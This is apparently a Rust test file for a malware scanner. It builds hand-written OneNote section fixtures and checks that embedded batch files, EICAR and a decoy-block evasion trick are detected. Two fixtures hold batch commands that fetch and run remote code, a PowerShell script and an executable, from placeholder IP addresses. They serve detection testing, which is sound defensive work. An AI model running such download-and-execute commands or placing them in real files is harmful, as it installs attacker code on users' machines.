//! OneNote sections and the files embedded in them. No free tool writes a
//! `.one` file: the fixtures are written here by hand, with the structure
//! that matters (the file's GUID, FileDataStoreObject blocks with header,
//! declared length, data, padding and footer) and filler in between where
//! OneNote keeps its revision store.

use xferscan::{Origin, Verdict};

use crate::util::{self, assert_clean, has_key};

const FILE_GUID: [u8; 16] = [
    0xe4, 0x52, 0x5c, 0x7b, 0x8c, 0xd8, 0xa7, 0x4d, 0xae, 0xb1, 0x53, 0x78, 0xd0, 0x29, 0x96, 0xd3,
];
const BLOCK_HEADER: [u8; 16] = [
    0xe7, 0x16, 0xe3, 0xbd, 0x65, 0x26, 0x11, 0x45, 0xa4, 0xc4, 0x8d, 0x4d, 0x0b, 0x7a, 0x9e, 0xac,
];
const BLOCK_FOOTER: [u8; 16] = [
    0x22, 0xa7, 0xfb, 0x71, 0x79, 0x0f, 0x0b, 0x4a, 0xbb, 0x13, 0x89, 0x92, 0x56, 0x42, 0x6b, 0x24,
];

/// A section holding `text` (as OneNote stores it: UTF-16) and the files.
pub fn section(text: &str, files: &[&[u8]]) -> Vec<u8> {
    let mut f = FILE_GUID.to_vec();
    // The rest of the 1 KiB header: other GUIDs, counts and references.
    f.resize(1024, 0);
    f.extend(text.encode_utf16().flat_map(|u| u.to_le_bytes()));
    f.resize(f.len().next_multiple_of(8), 0);
    for data in files {
        f.extend(block(data, data.len() as u64));
    }
    f
}

/// One FileDataStoreObject.
pub fn block(data: &[u8], declared: u64) -> Vec<u8> {
    let mut b = BLOCK_HEADER.to_vec();
    b.extend_from_slice(&declared.to_le_bytes());
    b.extend_from_slice(&[0; 12]);
    b.extend_from_slice(data);
    b.resize(b.len().next_multiple_of(8), 0);
    b.extend_from_slice(&BLOCK_FOOTER);
    b
}

const BATCH: &[u8] = b"@echo off\r\nsetlocal\r\ncd /d %~dp0\r\npowershell -nop -w hidden -c \"iwr http://198.51.100.9/p.ps1 | iex\"\r\nexit /b\r\n";

#[test]
fn a_section_is_its_own_type() {
    let r = util::scan("notes.one", section("Meeting notes", &[]));
    assert_eq!(r.objects[0].types[0].ty.name(), "onenote");
    assert_clean(&r);
}

#[test]
fn an_embedded_batch_file_is_blocked() {
    let r = util::scan(
        "invoice.one",
        section(
            "Double-click to view the invoice",
            &[util::tiny_png().as_slice(), BATCH],
        ),
    );
    let batch = r
        .objects
        .iter()
        .find(|o| o.types.first().is_some_and(|t| t.ty.name() == "batch"))
        .unwrap_or_else(|| panic!("no batch child: {:#?}", r.objects));
    assert_eq!(
        batch.path.names().last().map(|s| &**s),
        Some("<onenote file 2>")
    );
    assert!(matches!(batch.origin, Origin::Carved { .. }));
    assert!(has_key(&r, "type.script.windows"), "{:#?}", r.findings);
    assert_eq!(r.verdict, Verdict::Malicious);
}

#[test]
fn eicar_in_an_embedded_file_is_found() {
    let eicar = util::eicar();
    let r = util::scan("notes.one", section("see attachment", &[&eicar]));
    assert!(util::found_eicar(&r));
    let (path, _) = util::deepest(&r);
    assert_eq!(path.names().last().map(|s| &**s), Some("<onenote file 1>"));
}

#[test]
fn a_section_with_text_only_is_clean() {
    let r = util::scan(
        "notes.one",
        section(
            "Shopping: milk, bread, eggs. Call the plumber on Monday.",
            &[],
        ),
    );
    assert_eq!(r.objects.len(), 1);
    assert_clean(&r);
}

#[test]
fn a_truncated_block_is_a_finding_and_still_scanned() {
    let mut f = section("notes", &[]);
    let mut b = block(&util::eicar(), 1 << 30);
    // Cut after the data: no footer, and far less than declared.
    b.truncate(36 + util::eicar().len());
    f.extend(b);
    let r = util::scan("notes.one", f);
    assert!(has_key(&r, "unscannable.malformed"), "{:#?}", r.findings);
    assert!(util::found_eicar(&r));
    assert_ne!(r.verdict, Verdict::Clean);
}

/// A decoy block whose declared length swallows the header of the real
/// one: OneNote reaches the real one by reference and shows it; it is read
/// here too, and the batch file in it is judged.
#[test]
fn a_block_behind_a_decoy_that_swallows_its_header_is_read() {
    let bat = b"@echo off\r\npowershell -w hidden -c \"iwr http://203.0.113.7/a.exe -o a.exe; start a.exe\"\r\n";
    let real = block(bat, bat.len() as u64);
    let mut f = section("Double-click to view the invoice", &[]);
    f.extend(block(&[], (real.len() + 8) as u64));
    f.extend(real);
    let r = util::scan("invoice.one", f);
    assert_ne!(r.verdict, Verdict::Clean, "{:?}", util::keys(&r));
    assert!(
        r.objects
            .iter()
            .any(|o| o.types.first().is_some_and(|t| t.ty.name() == "batch")),
        "{:?}",
        util::keys(&r)
    );
}
